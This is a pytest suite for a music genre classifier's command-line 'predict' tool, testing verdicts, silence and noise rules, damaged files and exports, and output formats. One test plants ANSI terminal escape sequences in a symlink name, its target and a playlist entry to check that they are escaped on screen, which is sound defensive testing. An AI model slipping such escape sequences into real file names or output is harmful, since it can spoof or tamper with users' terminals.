import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
from typer.testing import CliRunner

from spectrogenre.cli import app
from tests.synth import sine

runner = CliRunner()


def predict(project, *args):
    return runner.invoke(app, ["predict", "--model", str(project / "data/export"), *args])


def test_a_folder_gets_one_verdict_per_track(tiny_project):
    result = predict(tiny_project, str(tiny_project / "library"), "--format", "json", "--threshold", "0")
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    assert len(rows) == 18
    # the folder names the genre; the tiny genres are easy, so nearly every track is right
    right = sum(row["genre"] == row["path"].split("/")[-3] for row in rows)
    assert right >= 16
    assert all(len(row["top"]) == 3 and row["error"] is None and "windows" not in row for row in rows)
    assert all(row["warnings"] == [] for row in rows)  # whole files: nothing found wrong
    assert "18 classified, 0 failed" in result.stderr


def test_timeline_lists_each_window(tiny_project):
    track = tiny_project / "library" / "Drone" / "Album 0" / "01 Track.wav"
    result = predict(tiny_project, str(track), "--timeline", "--hop", "1", "--format", "json")
    windows = json.loads(result.stdout)[0]["windows"]
    # 9 s track: 1.5 s of silence, 6 s of tone, 1.5 s of silence -> 2 s windows every 1 s from 1.5 s
    assert [w["start_s"] for w in windows] == [1.5, 2.5, 3.5, 4.5, 5.5]
    assert all(w["end_s"] - w["start_s"] == 2.0 for w in windows)


def test_bad_files_are_reported_and_the_rest_still_classified(tiny_project, tmp_path):
    good = tiny_project / "library" / "Noise" / "Album 2" / "01 Track.wav"
    corrupt = tmp_path / "corrupt.mp3"
    corrupt.write_bytes(b"\xff\xfb" + bytes(300))
    short = tmp_path / "short.wav"
    sf.write(short, sine(0.5, sr=8000), 8000)
    notes = tmp_path / "notes.txt"
    notes.write_text("not audio")
    result = predict(tiny_project, str(good), str(corrupt), str(short), str(notes), "--format", "csv",
                     "--threshold", "0")  # the verdict itself is not under test here
    assert result.exit_code == 1
    rows = {row["path"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert rows[str(good)]["genre"] in {"Clicks", "Drone", "Noise"} and rows[str(good)]["error"] == ""
    assert rows[str(corrupt)]["error"].startswith("cannot be decoded")
    assert rows[str(short)]["error"] == "too short: 0.5 s of audio (0.5 s once silences are cut), needs at least 1 s"
    assert rows[str(notes)]["error"] == "unsupported file type .txt: not audio that spectrogenre reads, by its name " \
                                        "or its content"
    assert "1 classified, 3 failed" in result.stderr


def test_table_output_and_unsure_verdicts(tiny_project):
    track = tiny_project / "library" / "Clicks" / "Album 1" / "02 Track.flac"
    table = predict(tiny_project, str(track))
    assert table.exit_code == 0
    assert table.stdout.startswith(str(track)) and "%" in table.stdout
    unsure = predict(tiny_project, str(track), "--threshold", "1.0", "--format", "json")
    assert json.loads(unsure.stdout)[0]["genre"] == "unsure"


def test_a_missing_export_is_one_clear_error_before_any_output(tmp_path, tiny_library):
    result = runner.invoke(app, ["predict", "--model", str(tmp_path), str(tiny_library), "--format", "json"])
    assert result.exit_code == 1
    assert result.stderr.startswith(f"error: no spec.json in {tmp_path}")
    assert result.stdout == ""  # not a JSON array begun and never closed


@pytest.mark.parametrize("suffix", [".webm", ".m4a"])
def test_ffmpeg_formats_say_what_is_missing_or_decode(tiny_project, tmp_path, suffix, monkeypatch):
    monkeypatch.setattr("shutil.which", lambda name: None)
    path = tmp_path / f"clip{suffix}"
    path.write_bytes(b"\x1a\x45\xdf\xa3" + bytes(100))
    result = predict(tiny_project, str(path), "--format", "json")
    assert json.loads(result.stdout)[0]["error"] == f"{suffix} needs ffmpeg, which is not installed (Debian: apt install ffmpeg)"


def test_predict_and_serve_start_without_training_modules():
    # pandas and scipy.signal: about 1.7 s of imports on this machine, most of predict's cold start; the
    # stages, params.yaml's reader and TensorFlow belong to the pipeline, not to the runtime.
    code = ("import sys, spectrogenre.cli, spectrogenre.prediction, spectrogenre.litert, spectrogenre.server.app; "
            "print(sorted(m for m in sys.modules if m in ('pandas', 'scipy.signal', 'yaml', 'tensorflow', 'keras', "
            "'spectrogenre.config', 'spectrogenre.train') or m.startswith('stages')))")
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert loaded.strip() == "[]"


def test_a_folders_system_files_are_passed_over(tmp_path):
    from spectrogenre.prediction import survey

    for name in ("song.mp3", ".spectrogenre-tag.song.mp3", "._song.mp3", ".trash/old.mp3", "cd2/two.flac",
                 "...And Justice for All/one.mp3", "@eaDir/song.mp3/thumb.mp3"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(b"x")
    # an album title may start with dots; system folders (.trash, a NAS's @eaDir) are passed over
    given = survey([tmp_path])
    assert given.files == [tmp_path / "...And Justice for All/one.mp3", tmp_path / "cd2/two.flac",
                           tmp_path / "song.mp3"]
    assert [(p.name, why.split(" (")[0]) for p, why in given.passed_over] == [
        (".trash", "a hidden folder"), ("@eaDir", "a system folder")]
    assert survey([tmp_path / "._song.mp3"]).files == [tmp_path / "._song.mp3"]  # named on its own: taken as asked
    for name in ("cover.jpg", "cd2/back.JPG", "cd2/playlist.m3u", "README"):
        (tmp_path / name).write_bytes(b"x")
    (tmp_path / "cd2/again.mp3").symlink_to(tmp_path / "song.mp3")  # the same recording through a link
    given = survey([tmp_path])
    assert given.files == [tmp_path / "...And Justice for All/one.mp3", tmp_path / "cd2/two.flac",
                           tmp_path / "song.mp3"]
    assert given.not_audio == {".jpg": 2, ".m3u": 1, "(no suffix)": 1}
    assert [(p.name, why.split(" (")[0]) for p, why in given.passed_over] == [
        (".trash", "a hidden folder"), ("@eaDir", "a system folder"),
        ("again.mp3", "a link to song.mp3 in this folder: listed there")]


def test_hidden_files_named_like_audio_are_counted_not_passed_over_silently(tmp_path):
    # ".live take.mp3" or a macOS "._song.mp3" in a folder was left out with no word; .DS_Store is no audio to name
    from spectrogenre.prediction import survey

    for name in ("song.mp3", ".live take.mp3", "._song.mp3", ".DS_Store", ".spectrogenre-tag.song.mp3"):
        (tmp_path / name).write_bytes(b"x")
    given = survey([tmp_path])
    assert given.files == [tmp_path / "song.mp3"]
    hidden = ", ".join(str(tmp_path / name) for name in ("._song.mp3", ".live take.mp3", ".spectrogenre-tag.song.mp3"))
    assert given.notes() == [("passed over 3 hidden file(s) named like audio (a name starting with a dot: macOS's ._ "
                              f"copies, tag's temporary copies): {hidden}")]
    # tag names its own temporary copies on their own line
    assert given.notes(named_elsewhere=[tmp_path / ".spectrogenre-tag.song.mp3"])[0].startswith(
        "passed over 2 hidden file(s)")


def test_silence_is_no_music_heard_in_every_format(tiny_project, tmp_path):
    quiet = tmp_path / "quiet"
    quiet.mkdir()
    sf.write(quiet / "silence.wav", np.zeros(16000 * 20, dtype=np.float32), 16000)
    sf.write(quiet / "room.flac", np.random.default_rng(0).normal(0, 1e-3, 16000 * 20).astype(np.float32), 16000)
    result = predict(tiny_project, str(quiet), "--format", "json")
    assert result.exit_code == 0, result.output  # a verdict, not an error
    rows = {Path(r["path"]).name: r for r in json.loads(result.stdout)}
    for name in ("silence.wav", "room.flac"):  # -60 dBFS room tone is below the silence rule's -50 dBFS
        assert (rows[name]["genre"], rows[name]["confidence"], rows[name]["top"]) == ("no music heard", None, [])
    table = predict(tiny_project, str(quiet / "silence.wav"), "--timeline")
    assert "no music heard" in table.stdout and "%" not in table.stdout


def test_a_recording_of_mostly_silence_is_no_music_heard_as_with_an_export_from_before_the_rule(tiny_project, tmp_path):
    import shutil

    track = tiny_project / "library" / "Drone" / "Album 0" / "01 Track.wav"
    drone, sr = sf.read(track, dtype="float32")
    sounding = drone[int(3 * sr): int(3.6 * sr)]  # the track opens with 1.5 s of silence; here it sounds
    assert 20 * np.log10(np.std(sounding)) > -20
    # 0.6 s of the drone, then 1.6 s of digital silence: the silence rule leaves less than a 2 s window, so
    # the window is the recording's first 2 s as they are, of which the rule keeps 30 %: below the export's
    # min_sound_fraction (0.5)
    recording = tmp_path / "mostly silence.wav"
    sf.write(recording, np.concatenate([sounding, np.zeros(int(1.6 * sr))]), sr)
    export = tmp_path / "export"
    shutil.copytree(tiny_project / "data/export", export)
    spec = json.loads((export / "spec.json").read_text())
    assert spec["windows"]["min_sound_fraction"] == 0.5
    shown = {}
    for name, windows in [("this export", spec["windows"]), ("rule off", spec["windows"] | {"min_sound_fraction": 0}),
                          ("older export", {k: v for k, v in spec["windows"].items() if k != "min_sound_fraction"})]:
        (export / "spec.json").write_text(json.dumps(spec | {"windows": windows}))
        result = runner.invoke(app, ["predict", "--model", str(export), str(recording), "--format", "json"])
        assert result.exit_code == 0, result.output
        shown[name] = json.loads(result.stdout)[0]["genre"]
    assert shown == {"this export": "no music heard", "rule off": "Drone", "older export": "no music heard"}


def test_the_front_end_keys_spec_json_writes_for_native_apps_are_read_past(tiny_project, tmp_path):
    from spectrogenre.frontend import MEL_FILTERBANK

    # a mel or musicnn export describes its mel bands (frontend.mel_filterbank) for apps that cannot call librosa;
    # predict builds them itself, and must not take the description for an unknown setting
    export = tmp_path / "export"
    shutil.copytree(tiny_project / "data/export", export)
    spec = json.loads((export / "spec.json").read_text())
    track = tiny_project / "library" / "Drone" / "Album 0" / "01 Track.wav"
    before = runner.invoke(app, ["predict", "--model", str(export), str(track), "--format", "json"])
    spec["frontend"]["mel_filterbank"] = MEL_FILTERBANK
    (export / "spec.json").write_text(json.dumps(spec))
    after = runner.invoke(app, ["predict", "--model", str(export), str(track), "--format", "json"])
    assert (before.exit_code, after.exit_code) == (0, 0), after.output
    assert json.loads(after.stdout)[0]["genre"] == json.loads(before.stdout)[0]["genre"] == "Drone"


def export_with_steady_rule(project: Path, out: Path, below_db: float = 0.75) -> Path:
    """A copy of the project's export with the steady-noise rule at `below_db` (the tiny project turns it off)."""
    import shutil

    shutil.copytree(project / "data/export", out)
    spec = json.loads((out / "spec.json").read_text())
    assert spec["steady_noise"]["below_db"] == 0.0  # as the tiny project's params say
    (out / "spec.json").write_text(json.dumps(spec | {"steady_noise": spec["steady_noise"] | {"below_db": below_db}}))
    return out


def test_steady_noise_at_any_level_is_no_music_heard_and_music_still_a_genre(tiny_project, tmp_path):
    from tests.synth import clicks, colored_noise, hum

    export = export_with_steady_rule(tiny_project, tmp_path / "export")
    folder = tmp_path / "sounds"
    folder.mkdir()
    sf.write(folder / "pink-20.flac", colored_noise(20.0, exponent=1, sr=16000, level_db=-20), 16000)
    sf.write(folder / "white-40.wav", colored_noise(20.0, exponent=0, sr=16000, level_db=-40), 16000)
    sf.write(folder / "brown-10.wav", colored_noise(20.0, exponent=2, sr=16000, level_db=-10), 16000)
    sf.write(folder / "hum.wav", hum(20.0, sr=16000), 16000)
    sf.write(folder / "clicks.wav", clicks(20.0, sr=16000), 16000)
    result = runner.invoke(app, ["predict", "--model", str(export), str(folder), "--format", "json"])
    assert result.exit_code == 0, result.output
    rows = {Path(r["path"]).stem: r for r in json.loads(result.stdout)}
    for name in ("pink-20", "white-40", "brown-10", "hum"):
        assert (rows[name]["genre"], rows[name]["confidence"], rows[name]["top"]) == ("no music heard", None, []), name
    assert rows["clicks"]["genre"] == "Clicks"  # the tiny library's clicks change: still classified
    # with the rule off, as the tiny export has it, the same noise gets the tiny model's answer
    plain = json.loads(predict(tiny_project, str(folder / "white-40.wav"), "--format", "json").stdout)[0]
    assert plain["genre"] != "no music heard"


def test_noise_that_changes_is_no_music_heard_by_the_no_pitch_rule(tiny_project, tmp_path):
    import shutil

    from tests.synth import colored_noise

    export = tmp_path / "export"
    shutil.copytree(tiny_project / "data/export", export)
    spec = json.loads((export / "spec.json").read_text())
    assert spec["steady_noise"]["tonal_below"] == 0.0  # the tiny project's params: its genres are noises
    bursts = tmp_path / "bursts.wav"  # white noise, 4 bursts a second 20 dB apart: not steady, no pitch
    gate = np.where((np.arange(16000 * 20) // 2000) % 2 == 0, 1.0, 0.1)
    sf.write(bursts, (colored_noise(20.0, exponent=0, sr=16000, level_db=-20) * gate).astype(np.float32), 16000)
    shown = {}
    for tonal_below in (0.0, 0.003):
        (export / "spec.json").write_text(json.dumps(spec | {"steady_noise": spec["steady_noise"] | {
            "below_db": 0.75, "tonal_below": tonal_below}}))
        result = runner.invoke(app, ["predict", "--model", str(export), str(bursts), "--format", "json"])
        assert result.exit_code == 0, result.output
        shown[tonal_below] = json.loads(result.stdout)[0]["genre"]
    assert shown[0.003] == "no music heard" and shown[0.0] in ("Clicks", "Drone", "Noise", "unsure")


def test_the_unsure_threshold_defaults_to_the_exports(tiny_project, tmp_path):
    import shutil

    track = str(tiny_project / "library" / "Drone" / "Album 0" / "01 Track.wav")
    export = tmp_path / "export"
    shutil.copytree(tiny_project / "data/export", export)
    spec = json.loads((export / "spec.json").read_text())
    assert spec["verdict"]["unsure_below"] == 0.5 and 1.0 <= spec["verdict"]["temperature"] <= 10.0
    shown = {}
    for unsure_below in (0.0, 1.0):
        (export / "spec.json").write_text(json.dumps(spec | {"verdict": spec["verdict"] | {"unsure_below": unsure_below}}))
        result = runner.invoke(app, ["predict", "--model", str(export), track, "--format", "json"])
        shown[unsure_below] = json.loads(result.stdout)[0]
    assert shown[0.0]["genre"] == "Drone"  # the tiny model's best guess for a drone
    assert shown[1.0]["genre"] == "unsure" and shown[1.0]["top"][0]["genre"] == "Drone"


def test_a_folders_pipes_dangling_links_and_odd_folders_are_reported_not_passed_over(tiny_project, tmp_path):
    import os
    import shutil

    shutil.copy(tiny_project / "library" / "Noise" / "Album 0" / "01 Track.wav", tmp_path / "good.wav")
    os.mkfifo(tmp_path / "pipe.mp3")
    (tmp_path / "link.flac").symlink_to(tmp_path / "gone.flac")
    (tmp_path / "empty folder.mp3").mkdir()
    (tmp_path / "Live.mp3").mkdir()  # an album folder named like a file: searched
    shutil.copy(tmp_path / "good.wav", tmp_path / "Live.mp3" / "01.wav")
    (tmp_path / "cover.jpg").write_bytes(b"jpeg")
    (tmp_path / "Purchase.m4p").write_bytes(b"\0\0\0\x20ftypM4P ")  # music no decoder may read: its row says so
    result = predict(tiny_project, str(tmp_path), "--format", "json", "--threshold", "0")
    rows = {Path(row["path"]).name: row["error"] for row in json.loads(result.stdout)}
    assert rows == {"01.wav": None, "empty folder.mp3": "is a folder, not an audio file", "good.wav": None,
                    "link.flac": f"broken symbolic link: it points to {tmp_path / 'gone.flac'}, which does not exist",
                    "pipe.mp3": "is a named pipe (FIFO), not a file: not read",
                    "Purchase.m4p": ".m4p is an iTunes Store purchase protected against copying (DRM): no decoder "
                                    "may read it; use an unprotected copy (the store's newer download, or the CD)"}
    assert "2 classified, 4 failed" in result.stderr
    assert "passed over 1 file(s) that are not audio (.jpg: 1)" in result.stderr


def test_a_long_file_is_classified_window_by_window_as_it_streams(tiny_project, tmp_path, monkeypatch):
    from spectrogenre import inference

    track = tiny_project / "library" / "Noise" / "Album 0" / "01 Track.wav"
    audio, sr = sf.read(track, dtype="float32")
    long_path = tmp_path / "long.flac"
    with sf.SoundFile(long_path, "w", samplerate=sr, channels=1, format="FLAC", subtype="PCM_16") as out:
        for _ in range(200):  # 30 minutes of the same track over and over
            out.write(audio)
    largest = []
    spooled_append = inference.SpooledAudio.append
    monkeypatch.setattr(inference.SpooledAudio, "append",
                        lambda self, block: (largest.append(len(block)), spooled_append(self, block))[1])
    result = predict(tiny_project, str(long_path), "--format", "json", "--threshold", "0")
    row = json.loads(result.stdout)[0]
    assert row["error"] is None and row["genre"] == "Noise"
    # every sample at the front end's 8 kHz went through, never more than a block (~1 MiB of input) at once
    assert sum(largest) == len(audio) * 200 * 8000 // sr and max(largest) <= 1 << 20


def test_a_damaged_export_is_named_not_a_traceback(tiny_project, tmp_path):
    export = tiny_project / "data/export"
    garbled_model, garbled_spec = tmp_path / "garbled_model", tmp_path / "garbled_spec"
    shutil.copytree(export, garbled_model)
    (garbled_model / "model.tflite").write_bytes(b"garbage")
    shutil.copytree(export, garbled_spec)
    (garbled_spec / "spec.json").write_text('{"labels": [')
    song = tmp_path / "song.wav"
    sf.write(song, sine(20.0, freq=440, sr=16000), 16000)
    for model, problem in ((garbled_model, "model.tflite is not a TFLite model LiteRT can load"),
                           (garbled_spec, "spec.json cannot be read (JSONDecodeError"),
                           (tmp_path / "absent", "absent does not exist")):
        result = runner.invoke(app, ["predict", "--model", str(model), str(song)])
        assert result.exit_code == 1 and not isinstance(result.exception, (ValueError, KeyError))
        assert problem in result.stderr, result.stderr
    # the export's spec.json, given for the export, is read as its folder
    by_spec = runner.invoke(app, ["predict", "--model", str(export / "spec.json"), str(song), "--format", "json"])
    by_folder = runner.invoke(app, ["predict", "--model", str(export), str(song), "--format", "json"])
    assert by_spec.exit_code == 0 and by_spec.stdout == by_folder.stdout


def test_a_model_and_a_spec_from_different_exports_are_refused(tiny_project, tmp_path):
    # `--model other.tflite` beside another export's spec.json: a model of more genres than the labels was read
    # with the labels it has (its last genre's probability lost, the verdict misnamed), one of another front end
    # failed on every file with LiteRT's "Dimension mismatch"
    export = tiny_project / "data/export"
    spec = json.loads((export / "spec.json").read_text())
    song = tmp_path / "song.wav"
    sf.write(song, sine(20.0, freq=440, sr=16000), 16000)
    for name, changed, problem in [
            ("labels", {"labels": spec["labels"][:-1]}, (f"gives {len(spec['labels'])} genres' probabilities, but "
                                                         f"its spec.json names {len(spec['labels']) - 1}")),
            ("shape", {"frontend": {**spec["frontend"], "n_fft": spec["frontend"]["n_fft"] * 2}},
             "takes spectrograms of ")]:
        other = tmp_path / name
        shutil.copytree(export, other)
        (other / "spec.json").write_text(json.dumps(spec | changed))
        result = runner.invoke(app, ["predict", "--model", str(other), str(song)])
        assert result.exit_code == 1, result.output
        assert result.stdout == "" and problem in result.stderr, result.stderr
        assert "the model and spec.json come from different exports" in result.stderr


def test_a_path_inside_a_folder_it_may_not_read_gets_its_own_row(tmp_path, monkeypatch):
    from spectrogenre.prediction import survey

    locked = tmp_path / "locked/inside.wav"

    def is_dir(path):  # what stat says under a folder without x permission (root, who runs CI, is never refused)
        if path == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return original(path)

    original = Path.is_dir
    monkeypatch.setattr(Path, "is_dir", is_dir)
    assert survey([locked, tmp_path]).files == [locked]  # listed as given: predict_file says why it cannot be read


def test_control_characters_reach_csv_as_they_are_and_the_table_and_notes_escaped(tmp_path, monkeypatch):
    from types import SimpleNamespace

    from spectrogenre import inference

    monkeypatch.setattr(inference.ExportedModel, "load", lambda path: SimpleNamespace())
    link = tmp_path / "esc\x1b[31mred.mp3"  # a broken link whose name and target hold an escape sequence
    link.symlink_to("/nonexistent/evil\n\x1b[31mRED.mp3")
    playlist = tmp_path / "list.m3u"
    playlist.write_text("http://example.com/\x1b[31mred.mp3\n")
    # piped (the runner's output is no terminal): the CSV names the file as it is, escape and all
    result = runner.invoke(app, ["predict", "--format", "csv", str(link)])
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["path"] == str(link)
    assert row["error"] == "broken symbolic link: it points to /nonexistent/evil\n\x1b[31mRED.mp3, which does not exist"
    result = runner.invoke(app, ["predict", str(link), str(playlist)])
    assert result.stdout.splitlines() == [
        (f"{tmp_path}/esc\\x1b[31mred.mp3  ERROR  broken symbolic link: it points to /nonexistent/evil\\n\\x1b[31mRED.mp3, "
         f"which does not exist")]
    assert f"{playlist}, line 1: http://example.com/\\x1b[31mred.mp3: a URI, not a file's path on this machine (a " \
           f"local file:/// URI is read as its path): not classified" in result.stderr.splitlines()
    assert "\x1b" not in result.output


@pytest.mark.parametrize("output", ["json", "csv"])
def test_a_name_that_is_not_utf8_is_valid_text_in_json_and_csv(output):
    from spectrogenre.prediction import render

    name = os.fsdecode(b"/music/caf\xe9.mp3")  # an old archive's Latin-1 name
    row = {"path": name, "genre": "Rock", "confidence": 0.9, "top": [{"genre": "Rock", "probability": 0.9}],
           "windows": [], "error": None, "warnings": []}
    text = render([row], output=output, timeline=False)
    text.encode("utf-8")  # strict: a lone surrogate would raise
    paths = ([r["path"] for r in json.loads(text)] if output == "json"
             else [r["path"] for r in csv.DictReader(io.StringIO(text))])
    assert paths == ["/music/caf\\xe9.mp3"]  # as scan's reports and the table write it


def test_a_hard_link_to_a_file_given_is_listed_once_as_a_symbolic_link_is(tmp_path):
    # each name of a hard link is a file of its own to every path function: tag wrote both, as two files
    from spectrogenre.prediction import survey

    song, linked = tmp_path / "song.mp3", tmp_path / "linked.mp3"
    song.write_bytes(b"x")
    os.link(song, linked)
    found = survey([song, linked])
    assert found.files == [song]
    assert found.passed_over == [(linked, f"the same file as {song}: classified once, under that name")]


def test_a_file_given_twice_or_inside_a_folder_also_given_is_listed_once(tmp_path):
    from spectrogenre.prediction import survey

    (tmp_path / "album").mkdir()
    song = tmp_path / "album" / "song.mp3"
    song.write_bytes(b"x")
    (tmp_path / "other.mp3").symlink_to(song)
    given = [tmp_path / "album", song, tmp_path / "album" / ".." / "album" / "song.mp3", tmp_path / "other.mp3"]
    found = survey(given)
    assert found.files == [song]  # the first name it was given by
    # another name for it is said, at the end of the run; the same name again needs no word
    assert found.passed_over == [(tmp_path / "other.mp3", f"the same file as {song}: classified once, under that name")]
    assert found.notes() == [(f"passed over 1 folder(s) or link(s) (system, hidden, unreadable or repeated): "
                              f"{tmp_path / 'other.mp3'}: the same file as {song}: classified once, under that name")]


def test_a_url_and_standard_input_are_said_to_be_no_files_and_a_file_uri_is_its_path(tmp_path):
    from pathlib import Path

    from spectrogenre.prediction import survey

    song = tmp_path / "a, b.mp3"
    song.write_bytes(b"x")
    # as typer hands them over: pathlib makes "https://" of a URL "https:/"
    given = survey([Path("-"), Path("https://example.com/song.mp3"), Path(f"file://{tmp_path}/a,%20b.mp3")])
    assert given.files == [song]
    assert given.not_files == ["-: standard input is not read: give the songs' files, folders or playlists",
                               ("https://example.com/song.mp3: a URL (https), not a file on this machine: "
                                "download it first")]  # as it was written
    (tmp_path / "https:").mkdir()  # a folder of that name is a folder
    (tmp_path / "https:" / "x.mp3").write_bytes(b"x")
    assert survey([tmp_path / "https:" / "x.mp3"]).files == [tmp_path / "https:" / "x.mp3"]


def test_a_url_given_alone_is_refused_as_a_url_written_as_given(tmp_path):
    # the model is never loaded: there is nothing to classify
    result = runner.invoke(app, ["predict", "--model", str(tmp_path), "https://example.com/song.mp3"])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1] == (
        "error: nothing to classify: https://example.com/song.mp3: a URL (https), not a file on this machine: "
        "download it first: not classified")


def test_a_file_given_by_name_is_classified_where_its_content_is_audio_whatever_its_suffix(tmp_path, monkeypatch):
    from types import SimpleNamespace

    from spectrogenre import prediction
    from spectrogenre.inference import Verdict

    monkeypatch.setattr(prediction, "classify_file", lambda path, exported, **options: Verdict(
        status="genre", genre="Rock", confidence=0.9, probabilities={"Rock": 0.9, "Pop": 0.1}, windows=[]))
    bare, notes = tmp_path / "track01", tmp_path / "notes.txt"
    sf.write(bare, sine(3.0, sr=44100), 44100, format="WAV")
    notes.write_text("hello\n")
    rows = [prediction.predict_file(path, SimpleNamespace(), hop_seconds=None, threshold=None, top_k=1)
            for path in (bare, notes)]
    assert [(row["genre"], row["error"]) for row in rows] == [
        ("Rock", None),
        (None, "unsupported file type .txt: not audio that spectrogenre reads, by its name or its content")]


def rows_of(names):
    return [{"path": str(name), "genre": "Rock", "confidence": 0.9, "top": [{"genre": "Rock", "probability": 0.9}],
             "windows": [], "error": None, "warnings": []} for name in names]


def test_each_verdict_is_written_as_its_file_is_done_and_an_interrupt_leaves_whole_json(tmp_path, monkeypatch):
    import sys

    from spectrogenre import prediction

    songs = [tmp_path / f"{n}.wav" for n in "abc"]
    for song in songs:
        song.write_bytes(b"x")  # never read: the classifier below stands in for the model
    seen_before = []

    def two_then_ctrl_c(given, **_):
        for row in rows_of(given.files[:2]):
            yield row
            seen_before.append(sys.stdout.buffer.getvalue().decode())  # what the user sees before the next file
        raise KeyboardInterrupt

    monkeypatch.setattr(prediction, "predict_each", two_then_ctrl_c)
    result = runner.invoke(app, ["predict", *map(str, songs), "--format", "json"])
    assert result.exit_code == 130
    assert f'"path": "{songs[0]}"' in seen_before[0] and str(songs[1]) not in seen_before[0]
    assert [row["path"] for row in json.loads(result.stdout)] == [str(songs[0]), str(songs[1])]
    assert result.stderr.strip() == ("interrupted: 2 of 3 files done (2 classified, 0 failed); the others were not "
                                     "classified")


def test_a_ctrl_c_before_the_first_file_exits_130_not_as_a_failure(tmp_path, monkeypatch):
    # while the model loads, before predict's own handler: click would print "Aborted!" and exit 1
    from spectrogenre import inference

    song = tmp_path / "a.wav"
    song.write_bytes(b"x")

    def ctrl_c_while_loading(path):
        raise KeyboardInterrupt

    monkeypatch.setattr(inference.ExportedModel, "load", ctrl_c_while_loading)
    result = runner.invoke(app, ["predict", str(song), "--format", "json"])
    assert (result.exit_code, result.stdout, result.stderr) == (130, "", "interrupted\n")


def test_the_progress_bar_is_cleared_before_each_row_and_warning(tmp_path, monkeypatch):
    # On a terminal the bar (stderr) and the rows (stdout) share the screen: a row written after the bar without
    # clearing it read "  0%|      | 0/3 [00:00<?, ?file/s]/music/a.wav  Rock ...", as did a decoder's warning.
    import logging
    from types import SimpleNamespace

    from spectrogenre import inference, prediction

    songs = [tmp_path / f"{n}.wav" for n in "abc"]
    for song in songs:
        song.write_bytes(b"x")  # never read: the classifier below stands in for the model
    class ShownBar(prediction.tqdm):  # as on a terminal (the runner's stderr is not one)
        def __init__(self, files, **options):
            super().__init__(files, **{**options, "disable": False, "mininterval": 0})

    monkeypatch.setattr(prediction, "tqdm", ShownBar)
    monkeypatch.setattr(inference.ExportedModel, "load", lambda path: SimpleNamespace())

    def classified(path, exported, **options):
        logging.getLogger("spectrogenre.audio_io").warning("%s: damaged at 1.0 s", path)
        return rows_of([path])[0]

    monkeypatch.setattr(prediction, "predict_file", classified)
    result = runner.invoke(app, ["predict", *map(str, songs)])
    assert result.exit_code == 0, result.output
    screen = [line.rsplit("\r", 1)[-1] for line in result.output.split("\n")]  # what a terminal shows of each line
    for song in songs:
        assert f"{song}  Rock         90%  (Rock 90%)" in screen, result.output
        assert f"{song}: damaged at 1.0 s" in screen, result.output


@pytest.mark.usefixtures("ctrl_c_reaches_python")  # as in a terminal, wherever the tests run
def test_a_ctrl_c_that_a_decoders_callback_swallows_still_stops_the_run(tmp_path, monkeypatch):
    """soundfile reads through cffi callbacks, and a KeyboardInterrupt raised inside one is printed as
    "Exception ignored from cffi callback" and dropped: the decode fails and the run went on to the end."""
    import signal

    from spectrogenre import prediction

    songs = [tmp_path / f"{n}.wav" for n in "abc"]
    for song in songs:
        song.write_bytes(b"x")  # never read: the classifier below stands in for the decoder and the model

    def ctrl_c_inside_a_callback_on_the_second(given, **_):
        files = given.files
        yield from rows_of(files[:1])
        try:  # as cffi does: the handler's KeyboardInterrupt is caught inside the callback and dropped
            signal.raise_signal(signal.SIGINT)
        except KeyboardInterrupt:
            pass
        yield {**rows_of(files[1:2])[0], "genre": None, "top": [], "error": "cannot be decoded"}
        yield from rows_of(files[2:])

    monkeypatch.setattr(prediction, "predict_each", ctrl_c_inside_a_callback_on_the_second)
    result = runner.invoke(app, ["predict", *map(str, songs), "--format", "json"])
    assert result.exit_code == 130
    # the file being decoded when Ctrl-C came is not given the error its broken decode made
    assert [row["path"] for row in json.loads(result.stdout)] == [str(songs[0])]
    assert result.stderr.strip() == ("interrupted: 1 of 3 files done (1 classified, 0 failed); the others were not "
                                     "classified")
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # put back after the run


def test_output_that_cannot_be_written_is_one_error_line_not_a_traceback(tmp_path):
    song = tmp_path / "song.wav"
    song.write_bytes(b"x")  # never read: the classifier below stands in for the model
    stand_in = ("from spectrogenre import prediction; from tests.test_predict import rows_of; "
                "prediction.predict_each = lambda given, **_: iter(rows_of(given.files)); "
                "from spectrogenre.cli import app; app()")
    with open("/dev/full", "w") as full:  # every write fails: No space left on device
        done = subprocess.run([sys.executable, "-c", stand_in, "predict", str(song)], stdout=full, check=False,
                              stderr=subprocess.PIPE, text=True, timeout=60, cwd=Path(__file__).parents[1])
    assert done.returncode == 1
    assert done.stderr.strip() == ("error: cannot write the results to standard output (No space left on device): "
                                   "they are incomplete")


def test_the_tables_names_are_padded_to_the_longest_name_up_to_60_columns(tmp_path):
    from spectrogenre.prediction import render

    short, longer, endless = "/m/a.mp3", "/m/abcdef.mp3", "/m/" + "x" * 200 + ".mp3"
    assert render(rows_of([short, longer]), output="table", timeline=False).splitlines() == [
        "/m/a.mp3       Rock         90%  (Rock 90%)", "/m/abcdef.mp3  Rock         90%  (Rock 90%)"]
    lines = render(rows_of([short, endless]), output="table", timeline=False).splitlines()
    assert lines == [short + " " * (60 - len(short)) + "  Rock         90%  (Rock 90%)",
                     endless + "  Rock         90%  (Rock 90%)"]



@pytest.mark.skipif(shutil.which("ffmpeg") is None, reason="ffmpeg is not installed")
def test_a_damaged_ogg_file_is_classified_and_its_damage_named_where_it_is(tiny_project, tmp_path, caplog):
    from tests.test_audio_io import DAMAGED, damaged_in_the_middle

    path, _ = damaged_in_the_middle(tmp_path, "vorbis.ogg", 22050)  # a second's worth of bytes 15 s in
    with caplog.at_level("WARNING", logger="spectrogenre.audio_io"):
        result = predict(tiny_project, str(path), "--format", "json")
    assert result.exit_code == 0, result.output
    [row] = json.loads(result.stdout)
    assert row["error"] is None and row["genre"] in {"Clicks", "Drone", "Noise", "unsure"}
    # the line predict shows on stderr (the log's): where the audio goes missing, a page before the damaged bytes
    [line] = [record.getMessage() for record in caplog.records]
    found = DAMAGED.fullmatch(line.removeprefix(f"{path}: "))
    assert line.startswith(f"{path}: ") and found, line
    assert 13.5 < float(found[1]) < 15.0 and 1.0 < float(found[2]) < 3.0, line
    # ...and, for a script reading the output, in the file's own row, as the server's answer has it
